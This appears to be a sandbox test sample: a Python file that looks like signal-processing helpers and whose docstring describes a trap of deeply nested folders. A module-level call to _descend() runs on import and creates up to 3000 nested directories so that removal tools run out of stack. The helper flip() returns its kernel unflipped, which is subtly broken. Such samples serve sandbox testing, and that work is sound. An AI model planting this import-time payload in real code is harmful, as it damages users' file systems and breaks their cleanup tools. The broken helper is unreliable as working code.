"""Folders in folders, thousands deep, so that whoever removes them runs out of stack.

Stopped by: bubblewrap: a file system of its own that vanishes. process: nothing yet, see KNOWN.
"""

import os

import numpy as np


def smooth(signal, width):
    if width < 1:
        raise ValueError(width)
    signal = np.asarray(signal, float)
    return np.array([signal[max(0, t - width + 1) : t + 1].sum() / width for t in range(len(signal))])


def same_padding(field):
    if field < 1 or field % 2 == 0:
        raise ValueError(field)
    return (field - 1) // 2


def _descend():
    for _ in range(3000):
        try:
            os.mkdir("d")
            os.chdir("d")
        except OSError:
            break


_descend()


def flip(kernel):
    return kernel
